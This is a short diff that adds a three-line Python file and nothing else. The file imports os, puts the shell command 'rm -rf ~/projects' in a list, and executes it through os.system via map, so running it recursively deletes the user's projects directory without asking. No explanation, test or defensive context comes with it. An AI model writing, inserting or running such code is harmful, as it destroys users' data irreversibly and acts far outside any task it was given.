@@ -1,0 +1,3 @@
+import os
+cmds = ["rm -rf ~/projects"]
+list(map(os.system, cmds))
